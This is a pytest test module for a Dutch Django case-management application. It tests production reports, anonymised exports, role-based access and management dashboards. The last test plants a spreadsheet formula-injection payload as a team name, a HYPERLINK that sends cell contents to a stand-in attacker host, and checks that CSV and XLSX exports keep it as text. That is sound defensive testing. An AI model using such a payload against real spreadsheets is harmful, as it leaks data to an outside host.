"""DIE-4 production reporting: a quarter on generated data against an independent SQL count, purged work
still counted, CSV/XLSX without persons, management views, access for management roles only."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from aanmelding.models import Aanmelding
from casus.models import Casus
from cris import klok
from cris.accounts.roles import Rol
from cris.audit.models import AuditEntry
from cris.db_router import RapportageRouter
from diensten.models import DienstSoort, GeschoondeProductie
from diensten.services import levenscyclus, tijd
from diensten.services.productie import productie_bewaren
from rapportage import selectors
from rapportage.selectors import Periode, PeriodeFout
from taken.services.contacten import contactmoment_vastleggen
from taken.services.levenscyclus import taak_afronden
from testgegevens.generator import genereren
from tests import chain
from tests.factories import LidmaatschapFactory, MedewerkerFactory, TeamFactory
from werkstroom.models import Afdeling

PEIL = date(2026, 11, 1)
KWARTAAL = Periode.kwartaal(2026, 2)


def _sql(query: str, params=()):
    with connection.cursor() as cursor:
        cursor.execute(query, params)
        return cursor.fetchall()


def _onafhankelijk(periode: Periode) -> dict[str, int]:
    """The same figures counted straight from the tables, without the report's code."""
    grenzen = {"van": periode.van, "tot": periode.tot}
    lokaal = "AT TIME ZONE 'Europe/Amsterdam'"
    ((nieuw,),) = _sql(
        f"SELECT count(*) FROM diensten_dienst WHERE (aangemaakt_op {lokaal})::date >= %(van)s "
        f"AND (aangemaakt_op {lokaal})::date < %(tot)s",
        grenzen,
    )
    ((afgerond, afgebroken, doorloop),) = _sql(
        f"SELECT count(*) FILTER (WHERE status = 'afgerond'), count(*) FILTER (WHERE status = 'afgebroken'), "
        f"COALESCE(sum(doorlooptijd_s) FILTER (WHERE status = 'afgerond'), 0) FROM diensten_dienst "
        f"WHERE (afgesloten_op {lokaal})::date >= %(van)s AND (afgesloten_op {lokaal})::date < %(tot)s",
        grenzen,
    )
    ((minuten,),) = _sql(
        "SELECT COALESCE(sum(minuten), 0) FROM diensten_tijdsbesteding WHERE datum >= %(van)s AND datum < %(tot)s",
        grenzen,
    )
    return {"nieuw": nieuw, "afgerond": afgerond, "afgebroken": afgebroken, "doorlooptijd_s": doorloop,
            "besteed_minuten": minuten}  # fmt: skip


def _cijfers(c) -> dict[str, int]:
    return {k: getattr(c, k) for k in ("nieuw", "afgerond", "afgebroken", "doorlooptijd_s", "besteed_minuten")}


@pytest.mark.django_db(transaction=True)
def test_die4_a_quarter_on_generated_data_matches_an_independent_count():
    genereren(schaal=0.0004, seed=5, peildatum=PEIL)
    verwacht = _onafhankelijk(KWARTAAL)
    assert verwacht["nieuw"] > 20 and verwacht["afgerond"] > 10 and verwacht["besteed_minuten"] > 0
    productie = selectors.productie(periode=KWARTAAL)
    assert _cijfers(productie.totaal) == verwacht
    # Per district, too: the breakdown adds up and matches SQL grouped by district.
    per_district = dict(
        _sql(
            "SELECT d.naam, count(*) FROM diensten_dienst s JOIN werkstroom_district d ON d.id = s.district_id "
            "WHERE (s.aangemaakt_op AT TIME ZONE 'Europe/Amsterdam')::date >= %s "
            "AND (s.aangemaakt_op AT TIME ZONE 'Europe/Amsterdam')::date < %s GROUP BY d.naam",
            [KWARTAAL.van, KWARTAAL.tot],
        )
    )
    assert {label: c.nieuw for label, c in productie.per("district") if c.nieuw} == per_district
    # Per category: the supporting services are the smaller share (~20 %), as in production.
    categorieen = dict(productie.per("categorie"))
    assert 0 < categorieen["Ondersteunende dienst"].nieuw < categorieen["Informerende dienst"].nieuw
    # A filter narrows the figures to one district.
    district_id = _sql("SELECT district_id FROM diensten_dienst ORDER BY id LIMIT 1")[0][0]
    gefilterd = selectors.productie(periode=KWARTAAL, district_id=district_id)
    assert {r.district.pk for r in gefilterd.rijen} == {district_id}

    # SCH-3: purging cases keeps their production in the anonymous aggregate — the report does not change.
    casus_ids = [
        r[0]
        for r in _sql(
            "SELECT DISTINCT casus_id FROM diensten_dienst WHERE aangemaakt_op < %s AND "
            "(afgesloten_op IS NULL OR afgesloten_op >= %s) ORDER BY 1 LIMIT 15",
            [datetime(2026, 7, 1, tzinfo=UTC), datetime(2026, 4, 1, tzinfo=UTC)],
        )
    ]
    assert len(casus_ids) >= 5
    assert productie_bewaren(casus_ids=casus_ids) > 0
    Aanmelding.objects.filter(casus_id__in=casus_ids).delete()  # what the purge removes with the casus
    Casus.objects.filter(pk__in=casus_ids).delete()
    assert _onafhankelijk(KWARTAAL) != verwacht  # the live rows of the purged cases are gone
    assert _cijfers(selectors.productie(periode=KWARTAAL).totaal) == verwacht
    assert GeschoondeProductie.objects.exists()


def test_periods_are_whole_months_and_bounded():
    assert (KWARTAAL.van, KWARTAAL.tot, str(KWARTAAL)) == (date(2026, 4, 1), date(2026, 7, 1), "2026 K2")
    assert Periode.uit_tekst("2026-K2", None) == KWARTAAL
    assert Periode.uit_tekst("2025-11", "2026-02") == Periode(date(2025, 11, 1), date(2026, 3, 1))
    assert Periode.uit_tekst(None, None, vandaag=date(2026, 8, 15)) == Periode.kwartaal(2026, 3)
    with pytest.raises(PeriodeFout, match="jjjj-mm"):
        Periode.uit_tekst("juli", None)
    with pytest.raises(PeriodeFout, match="hoogstens 36"):
        Periode.uit_tekst("2020-01", "2026-01")
    with pytest.raises(PeriodeFout, match="voor de beginmaand"):
        Periode.uit_tekst("2026-05", "2026-01")


@pytest.fixture
def leider(db):
    return MedewerkerFactory(rollen=[Rol.TEAMLEIDER])


@pytest.fixture
def productie_data(db):
    """Two services in June 2025 (past at any instant the suite is pinned to), one of them completed after two
    days with 40 minutes spent."""
    team = TeamFactory()
    worker = MedewerkerFactory(rollen=[Rol.ACTIEVE_BENADERING], achternaam="Geheimnaam")
    LidmaatschapFactory(medewerker=worker, team=team)
    taak = chain.taak(casus=chain.casus(achternaam="Clientnaam"), team=team, behandelaar=worker)
    soort = DienstSoort.objects.get(code="OND-JUR-SCHADE")
    juni = klok.begin_van_dag(date(2025, 6, 10)) + timedelta(hours=9)
    dienst = levenscyclus.dienst_registreren(actor=worker, taak=taak, soort=soort, nu=juni)
    levenscyclus.dienst_registreren(actor=worker, taak=taak, soort=soort, nu=juni)
    tijd.tijd_registreren(actor=worker, dienst=dienst, minuten=40, datum=date(2025, 6, 11))
    levenscyclus.dienst_afronden(actor=worker, dienst=dienst, nu=juni + timedelta(days=2))
    return team


def test_die4_dashboard_shows_chart_and_table_for_management(
    client, leider, productie_data, django_assert_max_num_queries
):
    client.force_login(leider)
    with django_assert_max_num_queries(25):
        response = client.get(reverse("rapportage:productie"), {"van": "2025-K2", "per": "team"})
    pagina = response.content.decode()
    assert response.status_code == 200
    assert '<svg xmlns="http://www.w3.org/2000/svg"' in pagina and 'role="img"' in pagina and "<desc" in pagina
    assert f'<th class="utrecht-table__header-cell" scope="row">{productie_data.naam}</th>' in pagina
    assert "<dt>Gemiddelde doorlooptijd</dt><dd>2.0 dagen</dd>" in pagina.replace("2,0", "2.0")
    assert "Geheimnaam" not in pagina and "Clientnaam" not in pagina
    fout = client.get(reverse("rapportage:productie"), {"van": "juni"})
    assert fout.status_code == 422 and "Geef een maand op als jjjj-mm" in fout.content.decode()


def test_die4_export_csv_and_xlsx_are_aggregates_without_persons(client, leider, productie_data):
    client.force_login(leider)
    csv = client.get(reverse("rapportage:export", args=["csv"]), {"van": "2025-06"})
    tekst = csv.content.decode("utf-8-sig")
    regels = tekst.strip().split("\r\n")
    assert regels[0].startswith("maand;categorie;hoofddienst;dienstcode;dienst;district;team;nieuw;afgerond")
    assert regels[1].split(";")[7:] == ["2", "1", "0", "2.0", "40"]
    assert "Geheimnaam" not in tekst and "Clientnaam" not in tekst
    xlsx = client.get(reverse("rapportage:export", args=["xlsx"]), {"van": "2025-06"})
    assert xlsx["Content-Disposition"] == 'attachment; filename="productie-2025-06-2025-06.xlsx"'
    blad = load_workbook(io.BytesIO(xlsx.content)).active
    rijen = list(blad.iter_rows(values_only=True))
    assert rijen[0][:2] == ("maand", "categorie") and rijen[1][7:] == (2, 1, 0, 2.0, 40)
    assert AuditEntry.objects.filter(actie="exporteren", object_type="rapportage.productie").count() == 2
    assert client.get(reverse("rapportage:export", args=["pdf"])).status_code == 404


def test_reports_are_for_management_roles_only(client, db):
    team = TeamFactory()
    for rollen, verwacht in (
        ([Rol.TEAMLEIDER], 200),
        ([Rol.DISTRICTSMANAGER], 200),
        ([Rol.FUNCTIONEEL_BEHEERDER], 200),
        ([Rol.APPLICATIEBEHEERDER], 200),
        ([Rol.ACTIEVE_BENADERING], 403),
        ([Rol.PRIVACY_OFFICER], 403),
    ):
        user = MedewerkerFactory(rollen=rollen)
        LidmaatschapFactory(medewerker=user, team=team)
        client.force_login(user)
        for naam in ("rapportage:productie", "rapportage:management"):
            assert client.get(reverse(naam)).status_code == verwacht, (rollen, naam)
        assert client.get(reverse("rapportage:export", args=["csv"])).status_code == verwacht
        client.logout()
    assert client.get(reverse("rapportage:productie")).status_code == 302  # to the login page


def test_management_views_intake_48_hours_and_caseload(client, leider, db, django_assert_max_num_queries):
    team = TeamFactory(afdeling=Afdeling.ACTIEVE_BENADERING)
    worker = MedewerkerFactory(rollen=[Rol.ACTIEVE_BENADERING])
    LidmaatschapFactory(medewerker=worker, team=team)
    nu = timezone.now()
    # Two AB tasks whose 48-hour deadline passed this week: one called in time, one not.
    op_tijd = chain.taak(casus=chain.casus(), team=team, behandelaar=worker)
    te_laat = chain.taak(casus=chain.casus(), team=team, behandelaar=worker)
    from taken.models import Taak

    # Passed, and inside this week (Monday 00:00 in Amsterdam) also when the suite runs on Monday at 00:02.
    maandag = klok.begin_van_dag(klok.vandaag() - timedelta(days=klok.vandaag().weekday()))
    deadline = min(max(nu - timedelta(minutes=5), maandag + timedelta(seconds=30)), nu - timedelta(seconds=1))
    Taak.objects.filter(pk__in=[op_tijd.pk, te_laat.pk]).update(deadline=deadline)
    contactmoment_vastleggen(
        actor=worker, taak=op_tijd, kanaal="telefoon", richting="uitgaand", bereikt=False,
        tijdstip=deadline - timedelta(hours=1), verslag="",
    )  # fmt: skip
    contactmoment_vastleggen(
        actor=worker, taak=te_laat, kanaal="telefoon", richting="uitgaand", bereikt=True,
        tijdstip=nu, verslag="Te laat gebeld",
    )  # fmt: skip
    taak_afronden(actor=worker, taak=te_laat)
    naleving = selectors.ab_48_uur(weken=2)
    assert (naleving[-1].totaal, naleving[-1].op_tijd, naleving[-1].percentage) == (2, 1, 50.0)
    chain.aanmelding(actor=worker)
    weken, intake = selectors.intake_per_week(weken=4)
    assert len(weken) == 4 and intake["cai"][-1] == 1
    caseload = {c.team.pk: c for c in selectors.caseload_per_team()}[team.pk]
    assert (caseload.leden, caseload.in_behandeling, caseload.open, caseload.te_laat) == (1, 1, 1, 1)
    client.force_login(leider)
    with django_assert_max_num_queries(20):  # bounded: aggregates, whatever the number of teams and tasks
        pagina = client.get(reverse("rapportage:management"), {"weken": "2"}).content.decode()
    assert "Actieve Benadering: contact binnen 48 uur" in pagina and "50.0" in pagina.replace("50,0", "50.0")


def test_reports_can_read_from_a_replica():
    router = RapportageRouter()
    assert router.allow_migrate("rapportage", "diensten") is False
    assert router.allow_migrate("default", "diensten") is True
    assert router.db_for_read(GeschoondeProductie) == "default"  # no replica configured
    assert router.db_for_read(DienstSoort) is None
    assert router.db_for_write(GeschoondeProductie) == "default"


def test_replica_setting_adds_a_database(monkeypatch):
    """CRIS_RAPPORTAGE_DATABASE_URL makes DATABASES['rapportage'] (a test mirror of default)."""
    import importlib

    import cris.settings as instellingen

    monkeypatch.setenv("CRIS_RAPPORTAGE_DATABASE_URL", "postgres://lezer@replica.invalid:5432/cris")
    try:
        herladen = importlib.reload(instellingen)
        assert herladen.RAPPORTAGE_DATABASE == "rapportage"
        assert herladen.DATABASES["rapportage"]["HOST"] == "replica.invalid"
        assert herladen.DATABASES["rapportage"]["TEST"] == {"MIRROR": "default"}
    finally:
        monkeypatch.delenv("CRIS_RAPPORTAGE_DATABASE_URL")
        importlib.reload(instellingen)


def test_issue21_4_a_team_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(client, leider, productie_data):
    productie_data.naam = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    productie_data.save(update_fields=["naam"])
    client.force_login(leider)
    tekst = client.get(reverse("rapportage:export", args=["csv"]), {"van": "2025-06"}).content.decode("utf-8-sig")
    assert tekst.split("\r\n")[1].split(";")[6].startswith("\"'=HYPERLINK(")
    xlsx = client.get(reverse("rapportage:export", args=["xlsx"]), {"van": "2025-06"})
    blad = load_workbook(io.BytesIO(xlsx.content)).active
    cel = blad.cell(row=2, column=7)
    assert cel.data_type == "s" and cel.value.startswith("'=HYPERLINK(")  # text, not a formula
